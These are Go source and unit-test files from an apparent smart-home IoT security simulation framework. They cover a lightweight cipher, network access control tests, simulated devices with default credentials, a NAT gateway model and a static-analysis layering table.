// elimination. It panics if the map is singular, which would be a
// programming error in the cipher's linear layer.
func invertLinear16(f func(uint16) uint16) linear16 {
	a := matrixOf(f)
	var inv linear16
	for i := range inv {
		inv[i] = 1 << uint(i)
	}
	for col := 0; col < 16; col++ {
		pivot := -1
		for r := col; r < 16; r++ {
			if a[r]>>uint(col)&1 == 1 {
				pivot = r
				break
			}
		}
		if pivot < 0 {
			panic("lwc: pride linear layer is singular")
		}
		a[col], a[pivot] = a[pivot], a[col]
		inv[col], inv[pivot] = inv[pivot], inv[col]
		for r := 0; r < 16; r++ {
			if r != col && a[r]>>uint(col)&1 == 1 {
				a[r] ^= a[col]
				inv[r] ^= inv[col]
			}
		}
	}
	return inv
}

func (c *pride) Encrypt(dst, src []byte) {
	checkBlock("Pride", 8, dst, src)
	s := binary.BigEndian.Uint64(src) ^ c.k0
	for r := 0; r < prideRounds; r++ {
		s ^= c.rk[r]
		s = prideSub(s, &prideSBox)
		if r != prideRounds-1 { // the last round omits the linear layer
			s = prideLinear(s)
		}
	}
	s ^= c.k0
	binary.BigEndian.PutUint64(dst, s)
}

func (c *pride) Decrypt(dst, src []byte) {
	checkBlock("Pride", 8, dst, src)
	s := binary.BigEndian.Uint64(src) ^ c.k0
	for r := prideRounds - 1; r >= 0; r-- {
		if r != prideRounds-1 {
			s = prideLinearInv(s)
		}
		s = prideSub(s, &prideSBoxInv)
		s ^= c.rk[r]
	}
	s ^= c.k0
	binary.BigEndian.PutUint64(dst, s)
}
