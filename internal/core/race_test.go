package core

import (
	"fmt"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"xlf/internal/netsim"
	"xlf/internal/obs"
)

// TestNACPolicyConcurrentEvaluation hammers one policy from many
// goroutines at once — gateway-hook evaluation racing against policy
// mutation, containment toggles and report rendering. Run under
// `go test -race` it is the concurrency smoke test for the Core's
// constrained-access function; without -race it still checks that the
// denial counter matches the denials the hooks actually reported.
func TestNACPolicyConcurrentEvaluation(t *testing.T) {
	const (
		workers  = 8
		packets  = 200
		devices  = 4
		toggles  = 50
		infra    = netsim.Addr("dns.lan")
		unlisted = netsim.Addr("evil.wan")
	)

	p := NewNACPolicy()
	var observed atomic.Uint64
	p.OnDeny = func(*netsim.Packet) { observed.Add(1) }
	p.AllowInfra(infra)
	dev := func(i int) netsim.Addr { return netsim.Addr(fmt.Sprintf("dev%d.lan", i)) }
	vendor := func(i int) netsim.Addr { return netsim.Addr(fmt.Sprintf("vendor%d.wan", i)) }
	for i := 0; i < devices; i++ {
		p.Allow(dev(i), vendor(i))
	}
	hook := p.GatewayHook()

	var denied atomic.Uint64
	var wg sync.WaitGroup

	// Traffic workers: allowed, infra and unlisted destinations.
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < packets; i++ {
				src := dev((w + i) % devices)
				var dst netsim.Addr
				switch i % 3 {
				case 0:
					dst = vendor((w + i) % devices)
				case 1:
					dst = infra
				default:
					dst = unlisted
				}
				if err := hook(&netsim.Packet{Src: src, Dst: dst}); err != nil {
					denied.Add(1)
				}
			}
		}(w)
	}

	// Mutators: enrolment changes and containment flapping while traffic
	// is in flight.
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < toggles; i++ {
			d := dev(i % devices)
			p.Block(d)
			_ = p.Blocked(d)
			p.Unblock(d)
			p.Allow(d, netsim.Addr(fmt.Sprintf("extra%d.wan", i)))
		}
	}()

	// Readers: reporting paths race with evaluation.
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < toggles; i++ {
			_ = p.Describe()
			_ = p.Denials()
		}
	}()

	wg.Wait()

	if got, want := p.Denials(), denied.Load(); got != want {
		t.Errorf("policy counted %d denials, hooks returned %d errors", got, want)
	}
	// Quarantine denials skip OnDeny, so observed <= total denials; with
	// all devices unblocked at the end, every NAC denial must have been
	// observed.
	if obs := observed.Load(); obs > denied.Load() {
		t.Errorf("OnDeny fired %d times, more than %d total denials", obs, denied.Load())
	}
	if p.Blocked(dev(0)) {
		t.Error("device left quarantined after balanced Block/Unblock")
	}
}

// TestNACPolicyConcurrentDenialsTraced is the tracer-enabled variant:
// gateway hooks deny from many goroutines while each denial emits a span
// and a reader drains the ring buffer. Under -race this is the smoke test
// for the observability substrate on the NAC hot path; without -race it
// still checks the span count matches the denials.
func TestNACPolicyConcurrentDenialsTraced(t *testing.T) {
	const (
		workers = 8
		packets = 200
	)
	p := NewNACPolicy()
	var now atomic.Int64
	tr := obs.NewTracer(1<<12, func() time.Duration {
		return time.Duration(now.Add(int64(time.Millisecond)))
	})
	p.Tracer = tr
	hook := p.GatewayHook()

	var denied atomic.Uint64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < packets; i++ {
				pkt := &netsim.Packet{
					Src: netsim.Addr(fmt.Sprintf("lan:dev%d", w)),
					Dst: netsim.Addr("wan:unlisted"),
				}
				if err := hook(pkt); err != nil {
					denied.Add(1)
				}
			}
		}(w)
	}
	// Reader: snapshotting the ring races with emission.
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < 50; i++ {
			_ = tr.Spans()
			_ = tr.Len()
		}
	}()
	wg.Wait()

	if got, want := denied.Load(), uint64(workers*packets); got != want {
		t.Fatalf("denied %d packets, want %d (all unenrolled)", got, want)
	}
	spans := tr.Spans()
	if uint64(len(spans))+tr.Evicted() != denied.Load() {
		t.Errorf("tracer holds %d spans + %d evicted, want %d denial spans",
			len(spans), tr.Evicted(), denied.Load())
	}
	for _, s := range spans {
		if s.Layer != obs.LayerCore || s.Op != "nac-deny" || s.Cause != "unenrolled" {
			t.Fatalf("unexpected span %+v", s)
		}
	}
}
