package device

import (
	"strings"
	"testing"

	"xlf/internal/lwc"
)

func TestTable1HasTwentyRows(t *testing.T) {
	rows := Table1()
	if len(rows) != 20 {
		t.Fatalf("Table I has %d rows, want 20", len(rows))
	}
	seen := make(map[string]bool)
	for _, p := range rows {
		if p.Name == "" || p.Chipset == "" {
			t.Errorf("row %+v missing name/chipset", p)
		}
		if seen[p.Name] {
			t.Errorf("duplicate row %q", p.Name)
		}
		seen[p.Name] = true
	}
}

func TestProfileByName(t *testing.T) {
	p, err := ProfileByName("Philips Hue Lightbulb")
	if err != nil {
		t.Fatal(err)
	}
	if p.CoreHz != 32e6 {
		t.Errorf("Hue core = %v, want 32MHz", p.CoreHz)
	}
	if _, err := ProfileByName("Nonexistent Gadget"); err == nil {
		t.Error("ProfileByName accepted unknown name")
	}
}

func TestDeviceClasses(t *testing.T) {
	cases := []struct {
		name string
		want Class
	}{
		{"HID Glass Tag Ultra (RFID)", Class0},
		{"Philips Hue Lightbulb", Class1},
		{"REX2 Smart Meter", Class1},
		{"iPhone 6s Plus", ClassUnconstrained},
	}
	for _, tc := range cases {
		p, err := ProfileByName(tc.name)
		if err != nil {
			t.Fatal(err)
		}
		if got := p.DeviceClass(); got != tc.want {
			t.Errorf("%s class = %v, want %v", tc.name, got, tc.want)
		}
	}
}

func TestCostModelConstraintStructure(t *testing.T) {
	// The structural claim of Table I: the same cipher is orders of
	// magnitude slower on the bulb than on the hub, and heavy ciphers do
	// not fit the smallest devices.
	bulb, _ := ProfileByName("Philips Hue Lightbulb")
	phone, _ := ProfileByName("iPhone 6s Plus")
	reg := lwc.NewRegistry()
	aes, _ := reg.Lookup("AES")

	cb := CostModel(bulb, aes.CyclesPerByte, aes.RAMBytes)
	cp := CostModel(phone, aes.CyclesPerByte, aes.RAMBytes)
	if cb.SecondsPerKB <= cp.SecondsPerKB*100 {
		t.Errorf("bulb AES %.3gs/KB not >>100x phone %.3gs/KB", cb.SecondsPerKB, cp.SecondsPerKB)
	}
	if !cb.Fits {
		t.Error("AES should fit an 8KB-RAM bulb (256B schedule)")
	}

	// The RFID tag (64B RAM) fits almost nothing.
	tag, _ := ProfileByName("HID Glass Tag Ultra (RFID)")
	ct := CostModel(tag, aes.CyclesPerByte, aes.RAMBytes)
	if ct.Fits {
		t.Error("AES reported as fitting a 512-bit RFID tag")
	}
}

func TestAffordableCiphersOrdering(t *testing.T) {
	reg := lwc.NewRegistry()
	bulb, _ := ProfileByName("Philips Hue Lightbulb")
	list := AffordableCiphers(bulb, reg)
	if len(list) == 0 {
		t.Fatal("no affordable ciphers for the bulb")
	}
	for i := 1; i < len(list); i++ {
		if list[i-1].CyclesPerByte > list[i].CyclesPerByte {
			t.Fatal("AffordableCiphers not sorted by cost")
		}
	}
	// TEA (16B of key state) must be affordable on everything with >=4KB.
	found := false
	for _, info := range list {
		if info.Name == "TEA" {
			found = true
		}
	}
	if !found {
		t.Error("TEA missing from bulb's affordable set")
	}
}

func TestBatteryAccounting(t *testing.T) {
	bulb := NewSmartBulb("b")
	reg := lwc.NewRegistry()
	tea, _ := reg.Lookup("TEA")
	cost := CostModel(bulb.Profile, tea.CyclesPerByte, tea.RAMBytes)
	before := bulb.BatteryUJ
	if !bulb.SpendCrypto(cost, 4096) {
		t.Fatal("bulb could not afford 4KB of TEA")
	}
	if bulb.BatteryUJ >= before {
		t.Error("battery not drained")
	}
	// AC devices never drain.
	cam := NewNetworkCamera("c")
	if !cam.SpendCrypto(cost, 1<<20) {
		t.Error("AC camera refused crypto work")
	}
}

func TestBehaviorDFA(t *testing.T) {
	b := NewSmartBulb("b")
	if b.State() != "off" {
		t.Fatalf("initial state = %q, want off", b.State())
	}
	if err := b.Apply("on"); err != nil {
		t.Fatal(err)
	}
	if err := b.Apply("dim"); err != nil {
		t.Fatal(err)
	}
	if b.State() != "dimmed" {
		t.Errorf("state = %q, want dimmed", b.State())
	}
	// Illegal event rejected without state change.
	if err := b.Apply("brew"); err == nil {
		t.Error("bulb accepted 'brew'")
	}
	if b.State() != "dimmed" {
		t.Error("state changed on rejected event")
	}
	if got := len(b.History()); got != 2 {
		t.Errorf("history length = %d, want 2", got)
	}
}

func TestBehaviorRejectsNondeterminism(t *testing.T) {
	_, err := NewBehavior("a", []Transition{
		{From: "a", Event: "x", To: "b"},
		{From: "a", Event: "x", To: "c"},
	})
	if err == nil {
		t.Fatal("NewBehavior accepted nondeterministic transitions")
	}
}

func TestBehaviorAlphabetAndStates(t *testing.T) {
	b := NewThermostat("t").Behavior
	events := b.Events()
	if len(events) != 3 { // heat, cool, target_reached
		t.Errorf("events = %v, want 3 distinct", events)
	}
	states := b.States()
	if len(states) != 3 { // idle, heating, cooling
		t.Errorf("states = %v, want 3", states)
	}
}

func TestFirmwareVerification(t *testing.T) {
	fw := NewFirmware("1.0", []byte("image-bytes"), true)
	if !fw.Verify() {
		t.Fatal("fresh firmware fails verification")
	}
	fw.BuildData[0] ^= 0xFF
	if fw.Verify() {
		t.Error("modified firmware passes verification")
	}
}

func TestLoginAndCompromise(t *testing.T) {
	cam := NewNetworkCamera("c")
	if !cam.Login("admin", "1234") {
		t.Error("default login rejected")
	}
	if cam.Login("admin", "wrong") {
		t.Error("wrong password accepted")
	}
	cam.Compromise("mirai")
	if !cam.Compromised || cam.Malware != "mirai" {
		t.Error("compromise not recorded")
	}
	cam.Disinfect()
	if cam.Compromised || cam.Malware != "" {
		t.Error("disinfect incomplete")
	}
}

func TestCatalogIntegrity(t *testing.T) {
	cat := Catalog()
	if len(cat) != 11 {
		t.Fatalf("catalog has %d devices, want 11", len(cat))
	}
	ids := make(map[string]bool)
	for _, d := range cat {
		if ids[d.ID] {
			t.Errorf("duplicate device id %q", d.ID)
		}
		ids[d.ID] = true
		if d.Behavior == nil && len(d.TypicalTraces) == 0 {
			t.Errorf("%s has neither a behaviour automaton nor typical traces", d.ID)
		}
		if len(d.CloudDomains) == 0 {
			t.Errorf("%s has no cloud domains", d.ID)
		}
	}
}

func TestFormatTable1(t *testing.T) {
	out := FormatTable1()
	if !strings.Contains(out, "Table I") {
		t.Error("missing title")
	}
	for _, want := range []string{"Philips Hue", "iPhone 6s Plus", "Battery", "AC Power"} {
		if !strings.Contains(out, want) {
			t.Errorf("Table I render missing %q", want)
		}
	}
	if got := len(strings.Split(strings.TrimSpace(out), "\n")); got != 22 { // title + header + 20 rows
		t.Errorf("render has %d lines, want 22", got)
	}
}

func TestHasOpenPort(t *testing.T) {
	cam := NewNetworkCamera("c")
	if !cam.HasOpenPort("telnet") {
		t.Error("camera telnet port missing")
	}
	if cam.HasOpenPort("ssh") {
		t.Error("phantom ssh port")
	}
}

func TestWeakPasswordsAreDefaults(t *testing.T) {
	for _, c := range WeakPasswords {
		if !c.Default {
			t.Errorf("weak credential %s/%s not marked default", c.User, c.Password)
		}
	}
}
