package analysis

// This file is the one table the ISSUE/DESIGN architecture lives in: the
// XLF layer DAG plus the package sets the determinism and errdrop
// contracts cover. cmd/xlf-vet and the CI gate both consume XLFAnalyzers;
// changing the architecture means changing this table in the same commit.

// XLFModule is the module path the rules apply to.
const XLFModule = "xlf"

// XLFLayerTable is DESIGN.md §2 compiled into data: every package's
// complete set of allowed intra-module imports (module-relative; "." is
// the root xlf facade package, "*" grants everything). The shape encodes
// the XLF layering:
//
//   - substrates (sim, metrics, proto, lwc, ml) import nothing;
//   - layer functions import only their own substrate — device-layer
//     packages (device, channel) never see service-layer ones (service,
//     xauth, analytics) and vice versa;
//   - only the XLF Core and the root facade couple layers;
//   - harnesses (attack, testbed, exp) sit above the layers;
//   - internal packages never import cmd/* or examples/* (no entry
//     grants them, so the DAG forbids it structurally).
var XLFLayerTable = map[string][]string{
	// Root facade: assembles every layer around the Core.
	".": {
		"internal/analytics", "internal/behavior", "internal/core",
		"internal/dpi", "internal/ids", "internal/netsim",
		"internal/service", "internal/shaping", "internal/testbed",
		"internal/xauth",
	},

	// Substrates: leaves of the DAG.
	"internal/sim":     {},
	"internal/metrics": {},
	"internal/proto":   {},
	"internal/lwc":     {},
	"internal/ml":      {},

	// Device layer.
	"internal/device":  {"internal/lwc"},
	"internal/channel": {"internal/device", "internal/lwc"},

	// Network layer.
	"internal/netsim":  {"internal/sim"},
	"internal/dnsp":    {"internal/lwc", "internal/netsim"},
	"internal/ids":     {"internal/netsim"},
	"internal/shaping": {"internal/netsim", "internal/sim"},
	"internal/dpi":     {},
	// behavior watches device DFAs over network traces: it may read both.
	"internal/behavior": {"internal/device", "internal/netsim"},

	// Service layer.
	"internal/xauth":     {},
	"internal/service":   {"internal/lwc", "internal/xauth"},
	"internal/analytics": {},

	// The XLF Core: the only layer-coupling component besides the facade.
	"internal/core": {"internal/netsim"},

	// Harnesses above the layers.
	"internal/attack": {
		"internal/device", "internal/netsim", "internal/service",
		"internal/sim",
	},
	"internal/testbed": {
		"internal/attack", "internal/channel", "internal/device",
		"internal/lwc", "internal/netsim", "internal/service",
		"internal/sim",
	},
	"internal/exp": {
		".", "internal/analytics", "internal/attack", "internal/behavior",
		"internal/channel", "internal/core", "internal/device",
		"internal/dnsp", "internal/dpi", "internal/lwc",
		"internal/metrics", "internal/ml", "internal/netsim",
		"internal/proto", "internal/service", "internal/shaping",
		"internal/sim", "internal/testbed", "internal/xauth",
	},

	// Tooling: the analyzers import nothing; the driver imports them.
	"internal/analysis": {},

	// Binaries and examples: leaves at the top of the DAG.
	"cmd/probe":      {"internal/exp"},
	"cmd/xlf-attack": {".", "internal/attack", "internal/service"},
	"cmd/xlf-bench":  {"internal/exp"},
	"cmd/xlf-sim":    {".", "internal/analytics", "internal/attack", "internal/service"},
	"cmd/xlf-vet":    {"internal/analysis"},

	"examples/botnet":         {".", "internal/attack", "internal/netsim", "internal/service"},
	"examples/quickstart":     {".", "internal/attack", "internal/service"},
	"examples/smarthome":      {".", "internal/analytics", "internal/attack", "internal/service"},
	"examples/trafficprivacy": {"internal/netsim", "internal/shaping", "internal/sim"},
}

// XLFDeterministicPackages are the simulation/experiment reproduction
// paths: no wall-clock reads, no global math/rand (DESIGN.md §5).
var XLFDeterministicPackages = []string{
	"xlf",
	"xlf/internal/attack",
	"xlf/internal/exp",
	"xlf/internal/netsim",
	"xlf/internal/shaping",
	"xlf/internal/sim",
	"xlf/internal/testbed",
}

// XLFSecurityPackages are the packages where a dropped error converts a
// security failure into silent success.
var XLFSecurityPackages = []string{
	"xlf/internal/channel",
	"xlf/internal/dnsp",
	"xlf/internal/lwc",
	"xlf/internal/xauth",
}

// XLFAnalyzers returns the full rule set configured for this repository.
func XLFAnalyzers() []Analyzer {
	return []Analyzer{
		NewLayerCheck(XLFModule, XLFLayerTable),
		NewDeterminism(XLFDeterministicPackages),
		NewLockCheck(),
		NewErrDrop(XLFSecurityPackages),
	}
}
