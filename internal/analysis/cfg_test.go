package analysis

import (
	"go/parser"
	"go/token"
	"os"
	"path/filepath"
	"testing"
)

// TestCFGGolden lowers every function in testdata/cfg/src.go and pins
// the dumps byte-for-byte. Regenerate with UPDATE_GOLDEN=1.
func TestCFGGolden(t *testing.T) {
	src := filepath.Join("testdata", "cfg", "src.go")
	fset := token.NewFileSet()
	f, err := parser.ParseFile(fset, src, nil, parser.ParseComments|parser.SkipObjectResolution)
	if err != nil {
		t.Fatal(err)
	}
	var out []byte
	for _, fn := range Functions(f) {
		g := BuildCFG(fn.Name, fn.Body)
		checkCFGInvariants(t, g)
		out = append(out, g.Dump(fset)...)
		out = append(out, '\n')
	}

	golden := filepath.Join("testdata", "cfg", "src.golden")
	if os.Getenv("UPDATE_GOLDEN") == "1" {
		if err := os.WriteFile(golden, out, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("missing golden (run with UPDATE_GOLDEN=1 to create): %v", err)
	}
	if string(out) != string(want) {
		t.Errorf("CFG dumps differ from %s (UPDATE_GOLDEN=1 regenerates)\n--- got ---\n%s", golden, out)
	}
}

// checkCFGInvariants asserts the structural properties every analysis
// relies on: block 0 is the entry, the exit has no successors, edges are
// symmetric between Succs and Preds, and indices are dense.
func checkCFGInvariants(t *testing.T, g *CFG) {
	t.Helper()
	if len(g.Blocks) == 0 {
		t.Fatalf("%s: no blocks", g.Name)
	}
	if g.Blocks[0].Kind != KindEntry {
		t.Errorf("%s: block 0 is %s, want entry", g.Name, g.Blocks[0].Kind)
	}
	if g.Exit == nil || len(g.Exit.Succs) != 0 {
		t.Errorf("%s: exit missing or has successors", g.Name)
	}
	for i, b := range g.Blocks {
		if b.Index != i {
			t.Errorf("%s: block at %d has Index %d", g.Name, i, b.Index)
		}
		for _, s := range b.Succs {
			if !containsBlock(s.Preds, b) {
				t.Errorf("%s: edge b%d->b%d missing from Preds", g.Name, b.Index, s.Index)
			}
		}
		for _, p := range b.Preds {
			if !containsBlock(p.Succs, b) {
				t.Errorf("%s: pred b%d of b%d has no matching Succ", g.Name, p.Index, b.Index)
			}
		}
	}
}

func containsBlock(list []*Block, b *Block) bool {
	for _, x := range list {
		if x == b {
			return true
		}
	}
	return false
}

// TestCFGOverRepo builds a CFG for every function in the real module —
// a smoke test that the builder tolerates all production syntax.
func TestCFGOverRepo(t *testing.T) {
	pkgs, err := LoadModule(moduleRoot(t))
	if err != nil {
		t.Fatal(err)
	}
	funcs := 0
	for _, pkg := range pkgs {
		for _, f := range pkg.Files {
			for _, fn := range Functions(f.AST) {
				g := BuildCFG(fn.Name, fn.Body)
				checkCFGInvariants(t, g)
				funcs++
			}
		}
	}
	if funcs < 100 {
		t.Errorf("built only %d CFGs; module enumeration looks broken", funcs)
	}
}

// FuzzCFGBuild feeds arbitrary source through the parser and, when it
// parses, asserts the builder neither panics nor produces an
// inconsistent graph. scripts/check.sh runs this as a smoke target.
func FuzzCFGBuild(f *testing.F) {
	seed, err := os.ReadFile(filepath.Join("testdata", "cfg", "src.go"))
	if err != nil {
		f.Fatal(err)
	}
	f.Add(string(seed))
	f.Add("package p\nfunc f() { for { select {} } }")
	f.Add("package p\nfunc f(x int) { L: goto L; switch x { case 1: fallthrough; default: } }")
	f.Fuzz(func(t *testing.T, src string) {
		fset := token.NewFileSet()
		file, err := parser.ParseFile(fset, "fuzz.go", src, parser.SkipObjectResolution)
		if err != nil {
			t.Skip()
		}
		for _, fn := range Functions(file) {
			g := BuildCFG(fn.Name, fn.Body)
			if len(g.Blocks) == 0 || g.Exit == nil {
				t.Fatalf("%s: degenerate CFG", fn.Name)
			}
			for _, b := range g.Blocks {
				for _, s := range b.Succs {
					if s == nil {
						t.Fatalf("%s: nil successor in b%d", fn.Name, b.Index)
					}
				}
			}
			_ = g.Dump(fset)
			_ = g.Reachable()
		}
	})
}
