package netsim

import (
	"fmt"
)

// Gateway is the smart home gateway: it NATs LAN traffic to its WAN
// address, keeps the port-mapping table, and is where XLF's network-layer
// functions (shaping, monitoring, NAC) are deployed when the XLF Core runs
// at the edge (§IV-D).
type Gateway struct {
	lanAddr Addr
	wanAddr Addr

	// natOut maps (lanSrc, dstPort, dst) -> external port;
	// natIn maps external port -> lan address/port.
	natOut map[natKey]int
	natIn  map[int]natBinding
	next   int

	// Firewall rules: NAC policy hook (§IV-A3 constrained access). If
	// non-nil, outbound packets it rejects are dropped and counted.
	OutboundPolicy func(pkt *Packet) error
	// InboundPolicy guards WAN->LAN traffic (port protection, §II-B).
	InboundPolicy func(pkt *Packet) error

	// Shaper, when set, intercepts outbound post-NAT packets (traffic
	// shaping lives on the gateway). It receives the packet and a send
	// function to emit (possibly delayed/padded) traffic.
	Shaper func(pkt *Packet, send func(*Packet))

	// OnForward, when set, observes every accepted outbound packet with
	// its ORIGINAL (pre-NAT) addressing — the gateway-resident XLF
	// functions read device attribution here, since post-NAT taps only
	// see the gateway's own address.
	OnForward func(pkt *Packet)

	blockedOut uint64
	blockedIn  uint64
	forwarded  uint64
}

type natKey struct {
	lanSrc  Addr
	lanPort int
	dst     Addr
	dstPort int
}

type natBinding struct {
	lanAddr Addr
	lanPort int
}

var _ Node = (*Gateway)(nil)

// NewGateway creates a gateway with LAN and WAN faces.
func NewGateway(lan, wan Addr) *Gateway {
	return &Gateway{
		lanAddr: lan,
		wanAddr: wan,
		natOut:  make(map[natKey]int),
		natIn:   make(map[int]natBinding),
		next:    40000,
	}
}

// Addr implements Node with the gateway's LAN face. The WAN face is
// attached separately via WANNode.
func (g *Gateway) Addr() Addr { return g.lanAddr }

// WANAddr returns the external address.
func (g *Gateway) WANAddr() Addr { return g.wanAddr }

// Blocked returns (outboundBlocked, inboundBlocked).
func (g *Gateway) Blocked() (uint64, uint64) { return g.blockedOut, g.blockedIn }

// Forwarded returns the NAT-forwarded packet count.
func (g *Gateway) Forwarded() uint64 { return g.forwarded }

// Handle implements Node: LAN-side ingress. LAN packets destined to WAN
// addresses are NATted and re-sent from the WAN face.
func (g *Gateway) Handle(net *Network, pkt *Packet) {
	if pkt.Dst != g.lanAddr {
		return
	}
	// The convention: devices address WAN destinations through the
	// gateway by leaving the true destination in pkt.App-agnostic field?
	// No — devices send directly to wan: addresses; the network routes
	// through deliver(). The gateway's Handle is only used for traffic
	// addressed to the gateway itself (DNS forwarding, admin UI).
	_ = net
}

// WANNode returns the Node for the gateway's WAN face, which receives
// inbound traffic and un-NATs it.
func (g *Gateway) WANNode() Node {
	return &FuncNode{Address: g.wanAddr, Fn: g.handleInbound}
}

func (g *Gateway) handleInbound(net *Network, pkt *Packet) {
	b, ok := g.natIn[pkt.DstPort]
	if !ok {
		g.blockedIn++
		return
	}
	if g.InboundPolicy != nil {
		if err := g.InboundPolicy(pkt); err != nil {
			g.blockedIn++
			return
		}
	}
	in := pkt.Clone()
	in.Dst = b.lanAddr
	in.DstPort = b.lanPort
	g.forwarded++
	net.Send(in)
}

// SendOut NATs a LAN packet to the WAN and transmits it, applying the
// outbound policy and the traffic shaper. Devices and the home router
// call this for WAN-bound traffic.
func (g *Gateway) SendOut(net *Network, pkt *Packet) error {
	if !pkt.Src.IsLAN() {
		return fmt.Errorf("netsim: SendOut from non-LAN address %q", pkt.Src)
	}
	if g.OutboundPolicy != nil {
		if err := g.OutboundPolicy(pkt); err != nil {
			g.blockedOut++
			return fmt.Errorf("netsim: outbound blocked: %w", err)
		}
	}
	key := natKey{lanSrc: pkt.Src, lanPort: pkt.SrcPort, dst: pkt.Dst, dstPort: pkt.DstPort}
	ext, ok := g.natOut[key]
	if !ok {
		g.next++
		ext = g.next
		g.natOut[key] = ext
		g.natIn[ext] = natBinding{lanAddr: pkt.Src, lanPort: pkt.SrcPort}
	}
	if g.OnForward != nil {
		g.OnForward(pkt)
	}
	out := pkt.Clone()
	out.Src = g.wanAddr
	out.SrcPort = ext
	g.forwarded++
	if g.Shaper != nil {
		g.Shaper(out, func(p *Packet) { net.Send(p) })
		return nil
	}
	net.Send(out)
	return nil
}

// ExternalPortFor exposes the NAT mapping for tests and the adversary
// model (an external observer distinguishes clients by external port).
func (g *Gateway) ExternalPortFor(lanSrc Addr, lanPort int, dst Addr, dstPort int) (int, bool) {
	p, ok := g.natOut[natKey{lanSrc: lanSrc, lanPort: lanPort, dst: dst, dstPort: dstPort}]
	return p, ok
}
