// Package outside is not in the sim domain's holder set: obtaining a
// kernel is fine, passing one out of the domain is not.
package outside

import (
	"example.com/m/internal/sim"
	"example.com/m/internal/worker"
)

// Acquire pulls a kernel past the domain boundary.
func Acquire(seed int64) *sim.Kernel {
	k := worker.Fresh(seed)
	return k // want "returned past the domain boundary .package example.com/m/internal/outside is outside the holder set."
}

// Borrow may use a kernel locally without returning it.
func Borrow(seed int64) int64 {
	k := worker.Fresh(seed)
	k.Step()
	return seed
}
