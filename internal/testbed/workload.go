package testbed

import (
	"fmt"
	"sort"
	"time"
)

// Workload generation: seeded day-in-the-life schedules for the device
// fleet. Interactions follow a diurnal pattern (quiet nights, morning and
// evening peaks) so long-horizon experiments exercise realistic benign
// baselines rather than uniform noise.

// WorkloadConfig tunes the generator.
type WorkloadConfig struct {
	// Days is the horizon in simulated days.
	Days int
	// Intensity scales interactions per day (1.0 = a typical household,
	// roughly 40 interactions/day across the fleet).
	Intensity float64
}

// ScheduledEvent is one planned benign interaction.
type ScheduledEvent struct {
	At     time.Duration
	Device string
	Event  string
}

// dayWeight is the relative interaction rate per hour of day: near-zero at
// night, peaks at 07-09 and 18-22.
func dayWeight(hour int) float64 {
	switch {
	case hour >= 0 && hour < 6:
		return 0.05
	case hour < 9:
		return 1.6
	case hour < 17:
		return 0.5
	case hour < 22:
		return 2.0
	default:
		return 0.4
	}
}

// deviceRoutines lists, per catalog device, the legal event cycles the
// generator draws from. Each routine is applied as a unit so the device's
// DFA never rejects a benign interaction.
func deviceRoutines() map[string][][]string {
	return map[string][][]string{
		"bulb-1":    {{"on", "off"}, {"on", "dim", "off"}},
		"coffee-1":  {{"brew", "done"}},
		"thermo-1":  {{"heat", "target_reached"}, {"cool", "target_reached"}},
		"cam-1":     {{"motion", "clear"}},
		"smoke-1":   {{"test", "clear"}},
		"cast-1":    {{"cast", "stop"}},
		"fridge-1":  {{"door_open", "door_close"}, {"defrost", "done"}},
		"oven-1":    {{"preheat", "ready", "off"}},
		"window-1":  {{"unlock", "open", "close", "lock"}},
		"speaker-1": {{"wake", "query", "response", "idle"}},
	}
}

// GenerateWorkload plans a benign schedule over the horizon using the
// home's seeded RNG (deterministic per seed). Events within one routine
// are spaced 20-90 seconds apart.
func (h *Home) GenerateWorkload(cfg WorkloadConfig) []ScheduledEvent {
	if cfg.Days <= 0 {
		cfg.Days = 1
	}
	if cfg.Intensity <= 0 {
		cfg.Intensity = 1
	}
	rng := h.Kernel.Rand()
	routines := deviceRoutines()
	ids := make([]string, 0, len(routines))
	for id := range routines {
		if _, ok := h.Devices[id]; ok {
			ids = append(ids, id)
		}
	}
	sort.Strings(ids)

	var out []ScheduledEvent
	for day := 0; day < cfg.Days; day++ {
		for hour := 0; hour < 24; hour++ {
			// Expected routines this hour across the fleet.
			lambda := dayWeight(hour) * cfg.Intensity * 1.8
			n := int(lambda)
			if rng.Float64() < lambda-float64(n) {
				n++
			}
			for i := 0; i < n; i++ {
				id := ids[rng.Intn(len(ids))]
				routine := routines[id][rng.Intn(len(routines[id]))]
				at := time.Duration(day)*24*time.Hour +
					time.Duration(hour)*time.Hour +
					time.Duration(rng.Int63n(int64(time.Hour)))
				for _, ev := range routine {
					out = append(out, ScheduledEvent{At: at, Device: id, Event: ev})
					at += time.Duration(20+rng.Int63n(70)) * time.Second
				}
			}
		}
	}
	sort.SliceStable(out, func(i, j int) bool { return out[i].At < out[j].At })
	return out
}

// ScheduleWorkload installs a generated schedule onto the kernel. Events
// whose device rejects them (already mid-routine from an overlapping
// schedule) are skipped silently — overlap is realistic and harmless.
func (h *Home) ScheduleWorkload(events []ScheduledEvent) {
	for _, e := range events {
		e := e
		h.Kernel.Schedule(e.At-h.Kernel.Now(), fmt.Sprintf("workload:%s/%s", e.Device, e.Event), func() {
			// Best effort: UserEvent fails when an overlapping routine
			// left the device in a different state; that mirrors real
			// households and is not an error.
			_ = h.UserEvent(e.Device, e.Event)
		})
	}
}
