// Package netsim is the discrete-event packet network under the XLF
// testbed: nodes, lossy/latency links, a NAT smart gateway, DNS, and
// packet taps. It substitutes for the paper's real home networks (see
// DESIGN.md): XLF's network-layer functions consume packet metadata —
// sizes, timing, endpoints, DNS names — which this simulator produces
// deterministically on a sim.Kernel.
package netsim

import (
	"fmt"
	"time"

	"xlf/internal/obs"
	"xlf/internal/sim"
)

// Addr is a node address. LAN addresses conventionally look like
// "lan:bulb-1"; WAN addresses like "wan:cloud.example".
type Addr string

// IsLAN reports whether the address is on the home side of the gateway.
func (a Addr) IsLAN() bool { return len(a) >= 4 && a[:4] == "lan:" }

// Packet is the unit of transmission. Fields are metadata the XLF network
// layer can observe; Payload is opaque application data (possibly
// encrypted).
type Packet struct {
	ID       uint64
	Src, Dst Addr
	SrcPort  int
	DstPort  int
